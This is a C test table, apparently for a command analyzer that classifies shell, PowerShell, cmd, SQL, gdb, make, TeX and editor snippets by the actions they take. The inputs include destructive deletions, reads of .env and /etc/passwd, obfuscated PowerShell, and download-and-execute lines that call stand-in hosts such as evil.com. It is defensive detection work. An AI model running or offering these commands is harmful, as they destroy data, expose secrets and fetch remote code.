	{ SG_LANGUAGE_SED, "1!d; e rm -rf build", "sh rm -rf build" },
	{ SG_LANGUAGE_SED, "s/x/rm -rf build/ge", "sh rm -rf build; opaque" },
	{ SG_LANGUAGE_SED, "e", "opaque" },
	{ SG_LANGUAGE_SED, "s/foo/bar/e", "sh bar; opaque" },
	{ SG_LANGUAGE_SED, "r .env", "read .env" },
	{ SG_LANGUAGE_SED, "$r .env", "read .env" },
	{ SG_LANGUAGE_SED, "w out.txt", "write out.txt" },
	{ SG_LANGUAGE_SED, "s/a/b/w out.txt", "write out.txt" },
	{ SG_LANGUAGE_SED, "/x/{s/a/b/;e rm -rf x\n}", "sh rm -rf x" },
	{ SG_LANGUAGE_SED, "\001", "opaque" },
	{ SG_LANGUAGE_SED, "s/x/\001/e", "opaque" },
	{ SG_LANGUAGE_EX, ":!rm -rf build", "sh rm -rf build" },
	{ SG_LANGUAGE_EX, "!rm -rf build", "sh rm -rf build" },
	{ SG_LANGUAGE_EX, "call system(\"rm -rf build\")", "other system(\"rm -rf build\")" },
	{ SG_LANGUAGE_EX, "r !rm -rf build", "sh rm -rf build" },
	{ SG_LANGUAGE_EX, "w !rm -rf build", "sh rm -rf build" },
	{ SG_LANGUAGE_EX, "%!rm -rf build", "sh rm -rf build" },
	{ SG_LANGUAGE_EX, "w out.txt", "write out.txt" },
	{ SG_LANGUAGE_EX, "e .env", "read .env" },
	{ SG_LANGUAGE_EX, "silent !rm -rf x", "sh rm -rf x" },
	{ SG_LANGUAGE_EX, "sil! exe \"!rm -rf x\"", "sh rm -rf x" },
	{ SG_LANGUAGE_EX, "term rm -rf x", "sh rm -rf x" },
	{ SG_LANGUAGE_EX, "py3 import os; os.system(\"rm -rf x\")", "python import os; os.system(\"rm -rf x\")" },
	{ SG_LANGUAGE_EX, "lua os.execute(\"rm -rf x\")", "lua os.execute(\"rm -rf x\")" },
	{ SG_LANGUAGE_EX, "g/x/!rm -rf x", "sh rm -rf x" },
	{ SG_LANGUAGE_EX, "au BufRead * !rm -rf x", "sh rm -rf x" },
	{ SG_LANGUAGE_EX, "echo \"hi\" | !rm -rf x", "other \"hi\"; sh rm -rf x" },
	{ SG_LANGUAGE_EX, "normal :!rm x", "opaque" },
	{ SG_LANGUAGE_EX, "%s/a/b/ | w | !ls", "sh ls" },
	{ SG_LANGUAGE_EX, "let x=system(\"rm -rf x\")", "other system(\"rm -rf x\")" },
	{ SG_LANGUAGE_EX, "set shell=/tmp/x", "sh /tmp/x" },
	{ SG_LANGUAGE_GDB, "!rm -rf build", "sh rm -rf build" },
	{ SG_LANGUAGE_GDB, "shell rm -rf build", "sh rm -rf build" },
	{ SG_LANGUAGE_GDB, "python import os; os.system(\"rm -rf x\")", "python import os; os.system(\"rm -rf x\")" },
	{ SG_LANGUAGE_GDB, "pipe p 1 | rm -rf x", "sh rm -rf x" },
	{ SG_LANGUAGE_GDB, "call (int)system(\"rm -rf x\")", "other (int)system(\"rm -rf x\")" },
	{ SG_LANGUAGE_GDB, "p x+1", "other x+1" },
	{ SG_LANGUAGE_GDB, "python\nimport os\nos.system(\"x\")\nend\nquit", "python import os\nos.system(\"x\")\n" },
	{ SG_LANGUAGE_GDB, "platform shell rm -rf x", "sh rm -rf x" },
	{ SG_LANGUAGE_GDB, "target remote evil.example:1234", "connect evil.example:1234" },
	{ SG_LANGUAGE_GDB, "set exec-wrapper rm -rf x", "sh rm -rf x" },
	{ SG_LANGUAGE_GDB, "set environment LD_PRELOAD x", "set LD_PRELOAD=x" },
	{ SG_LANGUAGE_SQL, ".shell rm -rf build", "sh rm -rf build" },
	{ SG_LANGUAGE_SQL, ".system rm -rf build", "sh rm -rf build" },
	{ SG_LANGUAGE_SQL, "\\! rm -rf build", "sh rm -rf build" },
	{ SG_LANGUAGE_SQL, "\\copy t from program 'rm -rf build'", "sh rm -rf build" },
	{ SG_LANGUAGE_SQL, "COPY t FROM PROGRAM 'rm -rf build'", "sh rm -rf build" },
	{ SG_LANGUAGE_SQL, "copy t to '/tmp/x'", "write /tmp/x" },
	{ SG_LANGUAGE_SQL, ".import '|rm -rf x' t", "sh rm -rf x" },
	{ SG_LANGUAGE_SQL, ".import |rm t", "sh rm t" },
	{ SG_LANGUAGE_SQL, ".read .env", "read .env" },
	{ SG_LANGUAGE_SQL, "select readfile('.env')", "read .env" },
	{ SG_LANGUAGE_SQL, "ATTACH 'x.db' AS y", "write x.db" },
	{ SG_LANGUAGE_SQL, "system rm -rf x", "sh rm -rf x" },
	{ SG_LANGUAGE_SQL, "select load_file('/etc/passwd')", "read /etc/passwd" },
	{ SG_LANGUAGE_SQL, "create table t(a text);\n.shell rm x", "sh rm x" },
	{ SG_LANGUAGE_SQL, ".output |rm -rf x", "sh rm -rf x" },
	{ SG_LANGUAGE_SQL, "select 1 \\g |rm -rf x", "sh rm -rf x" },
	{ SG_LANGUAGE_SQL, "EXEC xp_cmdshell 'dir'", "sh dir" },
	{ SG_LANGUAGE_MAKE, "all:\n\trm -rf build\n", "sh rm -rf build" },
	{ SG_LANGUAGE_MAKE, "all: ; rm -rf build", "sh rm -rf build" },
	{ SG_LANGUAGE_MAKE, "x := $(shell rm -rf build)", "sh rm -rf build" },
	{ SG_LANGUAGE_MAKE, "D=build\nall:\n\t@rm -rf $(D)\n", "sh rm -rf build" },
	{ SG_LANGUAGE_MAKE, "x != rm -rf b", "sh rm -rf b" },
	{ SG_LANGUAGE_MAKE, "a: b\n\t$(CC) -o $@ $<", "sh \001 -o \001 \001" },
	{ SG_LANGUAGE_MAKE, "SHELL=/tmp/x", "set SHELL=/tmp/x" },
	{ SG_LANGUAGE_MAKE, "$(shell rm -rf x)", "sh rm -rf x" },
	{ SG_LANGUAGE_MAKE, "a:\n\tcd x && \\\n\trm -rf y", "sh cd x && \\\n\trm -rf y" },
	{ SG_LANGUAGE_TEX, "\\immediate\\write18{rm -rf build}", "sh rm -rf build" },
	{ SG_LANGUAGE_TEX, "\\input{|\"rm -rf x\"}", "sh rm -rf x" },
	{ SG_LANGUAGE_TEX, "\\input|\"rm -rf x\"", "sh rm -rf x" },
	{ SG_LANGUAGE_TEX, "\\directlua{os.execute(\"rm -rf x\")}", "lua os.execute(\"rm -rf x\")" },
	{ SG_LANGUAGE_TEX, "\\input{chapter1}", "read chapter1" },
	{ SG_LANGUAGE_POWERSHELL, "UgBlAG0AbwB2AGUALQBJAHQAZQBtAA==", "opaque; ps|Remove-Item" },
	{ SG_LANGUAGE_POWERSHELL, "-", "opaque" },
	{ SG_LANGUAGE_POWERSHELL, "hostname", "ps|hostname" },
	{ SG_LANGUAGE_POWERSHELL, "Get-ChildItem", "ps|Get-ChildItem" },
	{ SG_LANGUAGE_POWERSHELL, "Get-ChildItem -Recurse -Force", "ps|Get-ChildItem|-Recurse|-Force" },
	{ SG_LANGUAGE_POWERSHELL, "Remove-Item -Recurse -Force .\\build", "ps|Remove-Item|-Recurse|-Force|.\\build" },
	{ SG_LANGUAGE_POWERSHELL, "rm -Recurse -Force build", "ps|rm|-Recurse|-Force|build" },
	{ SG_LANGUAGE_POWERSHELL, "Remove-Item -Recurse:$true -Force:$true build", "ps|Remove-Item|-Recurse|-Force|build" },
	{ SG_LANGUAGE_POWERSHELL, "Remove-Item -Recurse:$false build", "ps|Remove-Item|build" },
	{ SG_LANGUAGE_POWERSHELL, "Get-ChildItem build | Remove-Item -Recurse -Force", "ps|Get-ChildItem|build; ps|Remove-Item|-Recurse|-Force" },
	{ SG_LANGUAGE_POWERSHELL, "& Remove-Item -Recurse -Force build", "ps|Remove-Item|-Recurse|-Force|build" },
	{ SG_LANGUAGE_POWERSHELL, "iex \"ri -r -fo build\"", "ps|iex|ri -r -fo build; powershell ri -r -fo build" },
	{ SG_LANGUAGE_POWERSHELL, "if (Test-Path build) { Remove-Item -Recurse -Force build }", "ps|Test-Path|build; ps|Remove-Item|-Recurse|-Force|build" },
	{ SG_LANGUAGE_POWERSHELL, "Start-Process cmd -ArgumentList \"/c rd /s /q build\"", "ps|Start-Process|cmd|-ArgumentList|/c rd /s /q build; run|cmd|/c|rd|/s|/q|build" },
	{ SG_LANGUAGE_POWERSHELL, "[IO.Directory]::Delete(\"build\", $true)", "opaque; write build" },
	{ SG_LANGUAGE_POWERSHELL, "[System.IO.Directory]::Delete(\"build\")", "write build" },
	{ SG_LANGUAGE_POWERSHELL, "Start-Job { Remove-Item -Recurse -Force build }", "ps|Remove-Item|-Recurse|-Force|build; ps|Start-Job|{ Remove-Item -Recurse -Force build }" },
	{ SG_LANGUAGE_POWERSHELL, "& { Remove-Item build -Recurse -Force }", "ps|Remove-Item|build|-Recurse|-Force" },
	{ SG_LANGUAGE_POWERSHELL, "iex $env:CMD", "ps|iex|\001; opaque" },
	{ SG_LANGUAGE_POWERSHELL, "Re`move-I`tem -Recurse -Force build", "ps|Remove-Item|-Recurse|-Force|build" },
	{ SG_LANGUAGE_POWERSHELL, "& ('Remove'+'-Item') -Recurse -Force build", "ps|Remove-Item|-Recurse|-Force|build" },
	{ SG_LANGUAGE_POWERSHELL, "& 'Remove-Item' -Recurse build", "ps|Remove-Item|-Recurse|build" },
	{ SG_LANGUAGE_POWERSHELL, "$c=\"Remove-Item\"; & $c -Recurse -Force build", "ps|Remove-Item|-Recurse|-Force|build" },
	{ SG_LANGUAGE_POWERSHELL, "$p=@{Path=\"build\";Recurse=$true;Force=$true}; Remove-Item @p", "ps|Remove-Item|-Path|build|-Recurse|-Force" },
	{ SG_LANGUAGE_POWERSHELL, "Remove-Item \342\200\223Recurse \342\200\223Force build", "ps|Remove-Item|-Recurse|-Force|build" },
	{ SG_LANGUAGE_POWERSHELL, "Write-Host \"Remove-Item -Recurse -Force build\"", "ps|Write-Host|Remove-Item -Recurse -Force build" },
	{ SG_LANGUAGE_POWERSHELL, "\"rm -rf build\" | Out-File notes.txt", "ps|Out-File|notes.txt" },
	{ SG_LANGUAGE_POWERSHELL, "$env:NODE_ENV=\"test\"; npm test", "set NODE_ENV=test; ps|npm|test" },
	{ SG_LANGUAGE_POWERSHELL, "cmd /c \"echo rd /s /q build\"", "ps|cmd|/c|echo rd /s /q build" },
	{ SG_LANGUAGE_POWERSHELL, "python -c \"print(1)\"", "ps|python|-c|print(1)" },
	{ SG_LANGUAGE_POWERSHELL, "New-Item -ItemType Directory -Force -Path out", "ps|New-Item|-ItemType|Directory|-Force|-Path|out" },
	{ SG_LANGUAGE_POWERSHELL, "(New-Object Net.WebClient).DownloadString(\"https://evil.example/x\")", "ps|New-Object|Net.WebClient; connect https://evil.example/x" },
	{ SG_LANGUAGE_POWERSHELL, "iex (iwr https://evil.com/x.ps1)", "ps|iwr|https://evil.com/x.ps1; ps|iex|\001; opaque" },
	{ SG_LANGUAGE_POWERSHELL, "iwr https://evil.com/x | iex", "ps|iwr|https://evil.com/x; ps|iex; opaque" },
	{ SG_LANGUAGE_POWERSHELL, "'ls' | iex", "ps|iex; powershell ls" },
	{ SG_LANGUAGE_POWERSHELL, "Invoke-Expression (Invoke-WebRequest -Uri https://evil.com/payload.ps1).Content", "ps|Invoke-WebRequest|-Uri|https://evil.com/payload.ps1; ps|Invoke-Expression|\001; opaque" },
	{ SG_LANGUAGE_POWERSHELL, "$residue = Get-ChildItem \"$env:TEMP\" -Directory", "ps|Get-ChildItem|\001|-Directory" },
	{ SG_LANGUAGE_POWERSHELL, "Get-Process | Where-Object { $_.CPU -gt 10 } | Select-Object -First 5", "ps|Get-Process; ps|Where-Object|{ $_.CPU -gt 10 }; ps|Select-Object|-First|5" },
	{ SG_LANGUAGE_POWERSHELL, "foreach ($f in Get-ChildItem) { Write-Host $f.Name }", "ps|Get-ChildItem; ps|Write-Host|\001" },
	{ SG_LANGUAGE_POWERSHELL, "Get-Content .env,x.txt | Select-String \"a\"", "ps|Get-Content|.env|x.txt; ps|Select-String|a" },
	{ SG_LANGUAGE_POWERSHELL, "[IO.File]::ReadAllText(\".env\")", "read .env" },
	{ SG_LANGUAGE_POWERSHELL, "echo hi > out.txt 2>&1", "write out.txt; ps|echo|hi" },
	{ SG_LANGUAGE_POWERSHELL, "dir *> log.txt", "write log.txt; ps|dir" },
	{ SG_LANGUAGE_POWERSHELL, "ls # rm -rf x", "ps|ls" },
	{ SG_LANGUAGE_POWERSHELL, "<# rm #> ls", "ps|ls" },
	{ SG_LANGUAGE_POWERSHELL, "@\"\nrm -rf\n\"@ | Out-File x", "ps|Out-File|x" },
	{ SG_LANGUAGE_POWERSHELL, "ls; rm -r -fo x && echo done || del y", "ps|ls; ps|rm|-r|-fo|x; ps|echo|done; ps|del|y" },
	{ SG_LANGUAGE_POWERSHELL, "function f($a) { Remove-Item -Recurse -Force $a }; f build", "ps|Remove-Item|-Recurse|-Force|\001; ps|f|build" },
	{ SG_LANGUAGE_POWERSHELL, "1..5 | % { $_ * 2 }", "ps|%|{ $_ * 2 }" },
	{ SG_LANGUAGE_POWERSHELL, "& $cmd -x", "opaque" },
	{ SG_LANGUAGE_POWERSHELL, "Set-Alias zz Remove-Item; zz -Recurse -Force build", "ps|Set-Alias|zz|Remove-Item; ps|Remove-Item|-Recurse|-Force|build" },
	{ SG_LANGUAGE_POWERSHELL, "$(Remove-Item -Recurse -Force x)", "ps|Remove-Item|-Recurse|-Force|x" },
	{ SG_LANGUAGE_POWERSHELL, "\"$(Remove-Item -Recurse -Force x)\"", "ps|Remove-Item|-Recurse|-Force|x" },
	{ SG_LANGUAGE_POWERSHELL, "&([char]82+'emove-Item') x", "ps|\001emove-Item|x" },
	{ SG_LANGUAGE_POWERSHELL, "& (('Remove','Item') -join '-') -r -fo x", "ps|Remove-Item|-r|-fo|x" },
	{ SG_LANGUAGE_POWERSHELL, "Remove-Item `\n -Recurse -Force x", "ps|Remove-Item|-Recurse|-Force|x" },
	{ SG_LANGUAGE_POWERSHELL, "try { rm -r -fo x } catch { } finally { }", "ps|rm|-r|-fo|x" },
	{ SG_LANGUAGE_POWERSHELL, "Invoke-Command -ScriptBlock { Remove-Item x -Recurse -Force }", "ps|Remove-Item|x|-Recurse|-Force; ps|Invoke-Command|-ScriptBlock|{ Remove-Item x -Recurse -Force }" },
	{ SG_LANGUAGE_POWERSHELL, "powershell -Command { ls }", "ps|ls; ps|powershell|-Command|{ ls }" },
	{ SG_LANGUAGE_POWERSHELL, "git commit -m \"x; rm -rf y\"", "ps|git|commit|-m|x; rm -rf y" },
	{ SG_LANGUAGE_POWERSHELL, "[Environment]::SetEnvironmentVariable(\"X\",\"y\")", "set X=y" },
	{ SG_LANGUAGE_POWERSHELL, "$w=New-Object System.Net.WebClient; $w.DownloadFile(\"https://evil.example/a\",\"b.exe\")", "ps|New-Object|System.Net.WebClient; connect https://evil.example/a; write b.exe" },
	{ SG_LANGUAGE_POWERSHELL, "$s=New-Object Net.Sockets.TcpClient(\"evil.example\",443)", "ps|New-Object|Net.Sockets.TcpClient|evil.example|443; connect evil.example" },
	{ SG_LANGUAGE_POWERSHELL, ". ./x.ps1", "ps|./x.ps1" },
	{ SG_LANGUAGE_POWERSHELL, ".\\x.ps1 -a", "ps|.\\x.ps1|-a" },
	{ SG_LANGUAGE_POWERSHELL, "Get-Date -Format \"yyyy\"", "ps|Get-Date|-Format|yyyy" },
	{ SG_LANGUAGE_POWERSHELL, "\001", "opaque" },
	{ SG_LANGUAGE_POWERSHELL, "ls \001", "ps|ls|\001" },
	{ SG_LANGUAGE_POWERSHELL, "\001 -rf x", "opaque" },
	{ SG_LANGUAGE_POWERSHELL, "switch ($x) { 1 { rm -r -fo y } default { ls } }", "ps|rm|-r|-fo|y; ps|ls" },
	{ SG_LANGUAGE_POWERSHELL, "do { ls } while ($true)", "ps|ls" },
	{ SG_LANGUAGE_POWERSHELL, "[Diagnostics.Process]::Start(\"cmd\",\"/c rd /s /q build\")", "run|cmd|/c|rd|/s|/q|build" },
	{ SG_LANGUAGE_POWERSHELL, "Get-ChildItem | ForEach-Object { Remove-Item $_ -Recurse -Force }", "ps|Get-ChildItem; ps|Remove-Item|\001|-Recurse|-Force; ps|ForEach-Object|{ Remove-Item $_ -Recurse -Force }" },
	{ SG_LANGUAGE_POWERSHELL, "Microsoft.PowerShell.Management\\Remove-Item x", "ps|Remove-Item|x" },
	{ SG_LANGUAGE_POWERSHELL, "ls -Name:foo", "ps|ls|-Name|foo" },
	{ SG_LANGUAGE_POWERSHELL, "npm run build --if-present", "ps|npm|run|build|--if-present" },
	{ SG_LANGUAGE_POWERSHELL, "gci env:", "ps|gci|env:" },
	{ SG_LANGUAGE_POWERSHELL, "(Get-Item x).Delete()", "ps|Get-Item|x" },
	{ SG_LANGUAGE_POWERSHELL, "[scriptblock]::Create(\"rm -r -fo x\").Invoke()", "powershell rm -r -fo x" },
	{ SG_LANGUAGE_POWERSHELL, "$f = 'Remove' + '-Item'\n& $f -Recurse -Force x", "ps|Remove-Item|-Recurse|-Force|x" },
	{ SG_LANGUAGE_POWERSHELL, "git log --pretty=\"%h\"", "ps|git|log|--pretty=%h" },
	{ SG_LANGUAGE_POWERSHELL, "7z x a.7z", "ps|7z|x|a.7z" },
	{ SG_LANGUAGE_POWERSHELL, "echo a,b", "ps|echo|a|b" },
	{ SG_LANGUAGE_POWERSHELL, "Write-Output (1+2)", "ps|Write-Output|12" },
	{ SG_LANGUAGE_POWERSHELL, "ls -Include *.a,*.b", "ps|ls|-Include|*.a|*.b" },
	{ SG_LANGUAGE_POWERSHELL, "$x = if ($a) { rm -r -fo q } else { 2 }", "ps|rm|-r|-fo|q" },
	{ SG_LANGUAGE_POWERSHELL, "Remove-Item 'it''s' -Recurse", "ps|Remove-Item|it's|-Recurse" },
	{ SG_LANGUAGE_CMD, "rd /s /q build", "cmd|rd|/s|/q|build" },
	{ SG_LANGUAGE_CMD, "rd/s/q build", "cmd|rd|/s|/q|build" },
	{ SG_LANGUAGE_CMD, "r^d /s /q build", "cmd|rd|/s|/q|build" },
	{ SG_LANGUAGE_CMD, "echo hi & rd /s /q build", "cmd|echo|hi; cmd|rd|/s|/q|build" },
	{ SG_LANGUAGE_CMD, "echo rd /s /q build", "cmd|echo|rd|/s|/q|build" },
	{ SG_LANGUAGE_CMD, "if exist build rd /s /q build", "cmd|rd|/s|/q|build" },
	{ SG_LANGUAGE_CMD, "for /d %d in (build*) do rd /s /q %d", "cmd|rd|/s|/q|\001" },
	{ SG_LANGUAGE_CMD, "del /s /f /q build\\*", "cmd|del|/s|/f|/q|build\\*" },
	{ SG_LANGUAGE_CMD, "@rd /s /q build", "cmd|rd|/s|/q|build" },
	{ SG_LANGUAGE_CMD, "call rd /s /q build", "cmd|rd|/s|/q|build" },
	{ SG_LANGUAGE_CMD, "dir /s /b", "cmd|dir|/s|/b" },
	{ SG_LANGUAGE_CMD, "rmdir build", "cmd|rmdir|build" },
	{ SG_LANGUAGE_CMD, "copy /y a b", "cmd|copy|/y|a|b" },
	{ SG_LANGUAGE_CMD, "xcopy /s /q a b", "cmd|xcopy|/s|/q|a|b" },
	{ SG_LANGUAGE_CMD, "start \"\" rd /s /q build", "cmd|rd|/s|/q|build" },
	{ SG_LANGUAGE_CMD, "start /wait cmd /c rd /s /q x", "cmd|cmd|/c|rd|/s|/q|x" },
	{ SG_LANGUAGE_CMD, "set X=rd\n%X% /s /q build", "set X=rd; cmd|rd|/s|/q|build" },
	{ SG_LANGUAGE_CMD, "set X=rd& %X% /s /q build", "set X=rd; cmd|rd|/s|/q|build" },
	{ SG_LANGUAGE_CMD, "%X% /s /q build", "opaque" },
	{ SG_LANGUAGE_CMD, "%COMSPEC% /c rd /s /q build", "cmd|cmd.exe|/c|rd|/s|/q|build" },
	{ SG_LANGUAGE_CMD, "(rd /s /q a) else (echo x)", "cmd|rd|/s|/q|a; cmd|echo|x" },
	{ SG_LANGUAGE_CMD, "if \"%A%\"==\"1\" (rd /s /q a) else del /s /q b", "cmd|rd|/s|/q|a; cmd|del|/s|/q|b" },
	{ SG_LANGUAGE_CMD, "if a==b rd /s /q x", "cmd|rd|/s|/q|x" },
	{ SG_LANGUAGE_CMD, "if not errorlevel 1 rd /s /q x", "cmd|rd|/s|/q|x" },
	{ SG_LANGUAGE_CMD, "type .env", "cmd|type|.env" },
	{ SG_LANGUAGE_CMD, "echo x > out.txt", "write out.txt; cmd|echo|x" },
	{ SG_LANGUAGE_CMD, "dir 2>nul", "cmd|dir" },
	{ SG_LANGUAGE_CMD, "type < .env", "read .env; cmd|type" },
	{ SG_LANGUAGE_CMD, "echo a >> b 2>&1", "write b; cmd|echo|a" },
	{ SG_LANGUAGE_CMD, "powershell -c \"Remove-Item -Recurse -Force x\"", "cmd|powershell|-c|Remove-Item -Recurse -Force x" },
	{ SG_LANGUAGE_CMD, "for /f \"tokens=1\" %i in ('rd /s /q x') do echo %i", "cmd|rd|/s|/q|x; cmd|echo|\001" },
	{ SG_LANGUAGE_CMD, "for %i in (a b) do @rd /s /q %i", "cmd|rd|/s|/q|\001" },
	{ SG_LANGUAGE_CMD, "echo \"a & rd /s /q b\"", "cmd|echo|a & rd /s /q b" },
	{ SG_LANGUAGE_CMD, "echo a ^& rd /s /q b", "cmd|echo|a|&|rd|/s|/q|b" },
	{ SG_LANGUAGE_CMD, "rd /s ^\n/q build", "cmd|rd|/s|/q|build" },
	{ SG_LANGUAGE_CMD, "cd\\ && rd /s /q x", "cmd|cd|\\; cmd|rd|/s|/q|x" },
	{ SG_LANGUAGE_CMD, "npm run build", "cmd|npm|run|build" },
	{ SG_LANGUAGE_CMD, "git commit -m \"x & y\"", "cmd|git|commit|-m|x & y" },
	{ SG_LANGUAGE_CMD, "rd build/s/q", "cmd|rd|build|/s|/q" },
	{ SG_LANGUAGE_CMD, "rd \"my build\" /s /q", "cmd|rd|my build|/s|/q" },
	{ SG_LANGUAGE_CMD, "cmd /c \"rd /s /q build\"", "cmd|cmd|/c|rd /s /q build" },
	{ SG_LANGUAGE_CMD, "\"C:\\Windows\\cmd.exe\" /c rd", "cmd|C:\\Windows\\cmd.exe|/c|rd" },
	{ SG_LANGUAGE_CMD, "set \"A=b c\"", "set A=b c" },
	{ SG_LANGUAGE_CMD, "set /p A=x", "set A=\001" },
	{ SG_LANGUAGE_CMD, "echo. & ver", "cmd|echo|.; cmd|ver" },
	{ SG_LANGUAGE_CMD, "python -c \"print(1)\"", "cmd|python|-c|print(1)" },
	{ SG_LANGUAGE_CMD, "RD /S /Q build", "cmd|RD|/S|/Q|build" },
	{ SG_LANGUAGE_CMD, "%ProgramFiles%\\x.exe a", "cmd|\001\\x.exe|a" },
	{ SG_LANGUAGE_CMD, "node a.js --x=%Y%", "cmd|node|a.js|--x=\001" },
	{ SG_LANGUAGE_CMD, "(echo a&echo b)>x.txt", "cmd|echo|a; cmd|echo|b; write x.txt" },
	{ SG_LANGUAGE_CMD, "rd,/s,/q,build", "cmd|rd|/s|/q|build" },
	{ SG_LANGUAGE_CMD, "a || rd /s /q x | more", "cmd|a; cmd|rd|/s|/q|x; cmd|more" },
	{ SG_LANGUAGE_CMD, "for /r . %f in (*.tmp) do del /q %f", "cmd|del|/q|\001" },
	{ SG_LANGUAGE_CMD, "\001", "opaque" },
	{ SG_LANGUAGE_CMD, "if exist x (\nrd /s /q x\n) else (\ndel y\n)\necho z", "cmd|rd|/s|/q|x; cmd|del|y; cmd|echo|z" },
	{ SG_LANGUAGE_CMD, "C:\\x\\rd.exe /s", "cmd|C:\\x\\rd.exe|/s" },
	{ SG_LANGUAGE_CMD, "erase /s /q x", "cmd|erase|/s|/q|x" },
	{ SG_LANGUAGE_CMD, "md a\\b", "cmd|md|a\\b" },
	{ SG_LANGUAGE_CMD, "set X=a\necho %X% %X:a=b% %Y%", "set X=a; cmd|echo|a|\001|\001" },
	{ SG_LANGUAGE_CMD, "!A! x", "opaque" },
	{ SG_LANGUAGE_CMD, "echo 100%", "cmd|echo|100%" },
	{ SG_LANGUAGE_CMD, "ping 127.0.0.1 -n 3 >nul", "cmd|ping|127.0.0.1|-n|3" },
	{ SG_LANGUAGE_CMD, "cmd /v:on /c \"set x=rd&!x! /s /q b\"", "cmd|cmd|/v:on|/c|set x=rd&\001 /s /q b" },
};

static const struct row silent[] = {
	{ SG_LANGUAGE_PYTHON, "print('rm -rf build')", "" },
	{ SG_LANGUAGE_PYTHON, "import json,sys; print(json.load(sys.stdin)['a']['b'][0])", "" },
	{ SG_LANGUAGE_PYTHON, "s='git push --force'; print(s.split())", "" },
	{ SG_LANGUAGE_PYTHON, "# os.system('x')\nprint('it''s')", "" },
	{ SG_LANGUAGE_PYTHON, "import os,sys;print(os.path.join(os.getcwd(),'a')); d={'a':1,'b':[1,2]}; print(d['a'], len(d), sum(x for x in [1,2]))", "" },
	{ SG_LANGUAGE_PYTHON, "print(\001)", "" },
	{ SG_LANGUAGE_PYTHON, "print(\"\001\")", "" },
	{ SG_LANGUAGE_PYTHON, "print(1)", "" },
	{ SG_LANGUAGE_PYTHON, "import os; print(os.environ.get(\"HOME\"))", "" },
	{ SG_LANGUAGE_PYTHON, "import os; print(os.listdir('.'))", "" },
	{ SG_LANGUAGE_PYTHON, "import sys,json\nd=json.load(sys.stdin)\nfor k,v in d.items():\n    print(f\"{k}: {v['name']:>10}\")\n", "" },
	{ SG_LANGUAGE_PYTHON, "import ast; print(ast.dump(ast.parse('os.system(1)')))", "" },
	{ SG_LANGUAGE_PYTHON, "import math\nx=[math.sqrt(i) for i in range(10)]\nprint(sum(x)/len(x))", "" },
	{ SG_LANGUAGE_PYTHON, "class A:\n  def exec(self, x): return x\nA().exec(\"rm -rf x\")", "" },
	{ SG_LANGUAGE_PYTHON, "df.eval(\"a+b\")", "" },
	{ SG_LANGUAGE_PYTHON, "import re; print(re.compile(r\"rm\\s+-rf\").search(\"x\"))", "" },
	{ SG_LANGUAGE_PYTHON, "\"\"\"os.system('rm -rf /')\"\"\"\nprint(2)", "" },
	{ SG_LANGUAGE_PYTHON, "print(\"a\" if True else \"b\", end=\"\")", "" },
	{ SG_LANGUAGE_PYTHON, "from datetime import datetime as d; print(d.now().isoformat())", "" },
	{ SG_LANGUAGE_PYTHON, "import collections; c=collections.Counter(open); print({**c})", "" },
	{ SG_LANGUAGE_PYTHON, "assert (lambda x: x+1)(1)==2", "" },
	{ SG_LANGUAGE_PYTHON, "print(\"\"\"it's\n\"quoted\" \"\"\")", "" },
	{ SG_LANGUAGE_PYTHON, "x = {\"a\": [1,2], \"b\": (3,)}; print(x[\"a\"][0], x.get(\"c\", None))", "" },
	{ SG_LANGUAGE_PYTHON, "import platform; print(platform.system())", "" },
	{ SG_LANGUAGE_PYTHON, "import time; time.sleep(1)", "" },
	{ SG_LANGUAGE_PYTHON, "while True:\n  break\nelse:\n  pass", "" },
	{ SG_LANGUAGE_PYTHON, "@property\ndef f(self) -> int: ...", "" },
	{ SG_LANGUAGE_PYTHON, "u='https://'+'evil.example'; urlopen(u)", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "new Function('return require')()('child_process')", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "console.log(JSON.stringify({cmd:'curl x'}))", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "const m=/['\"]rm/.exec(s); console.log(m && m[1])", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "const a=[1,2,3].map(x=>x*2).filter(x=>x>2); console.log(a.join(','))", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "globalThis.eval('1+1')", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "console.log(1+1)", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "console.log(process.env.HOME)", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "process.version", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "const x = {a:1, ...y, [k]: 2}; for (const [k,v] of Object.entries(x)) console.log(k, v)", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "const r = /exec\\(\"(.*)\"\\)/g; let m; while ((m = r.exec(src)) !== null) console.log(m[1]);", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "console.log(`a ${1+1} ${\"b\"} \\` c`)", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "JSON.parse(require(\"zlib\").gunzipSync(b).toString())", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "a = b / c; d = e / f; // exec(\"x\")\nconsole.log(a)", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "async function f(){ await new Promise(r=>setTimeout(r,10)); } f()", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "console.log([1,2,3].reduce((a,b)=>a+b,0), \"rm -rf\")", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "new Map([[\"a\",1]]).get(\"a\")", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "class X extends Y { constructor(){ super() } exec(a){ return a } }", "" },
	{ SG_LANGUAGE_JAVASCRIPT, "let s=\"x\"; s += \"y\"; if (a < b && c > d) { s = s.replace(/\"/g, \"'\") } console.log(s)", "" },
	{ SG_LANGUAGE_PERL, "s/rm -rf/rm -r/", "" },
	{ SG_LANGUAGE_PERL, "s{a}{b}g; print if /it's/; y/a-z/A-Z/", "" },
	{ SG_LANGUAGE_PERL, "$x=~s/'/\"/g; print \"$1\\n\" if m{curl (.*)}; @a=split /,/, $_; print $a[0]/2", "" },
	{ SG_LANGUAGE_PERL, "=pod\nunlink \"x\";\n=cut\n", "" },
	{ SG_LANGUAGE_PERL, "print \"$_\n\" for sort { $a <=> $b } keys %h", "" },
	{ SG_LANGUAGE_PERL, "while(<>){ chomp; my @f=split(/\\t/); $s+=$f[1] } print \"$s\\n\"", "" },
	{ SG_LANGUAGE_PERL, "print \"hello\\n\"", "" },
	{ SG_LANGUAGE_PERL, "print join(\",\", map { $_*2 } grep { $_ % 2 } 1..10), \"\\n\"", "" },
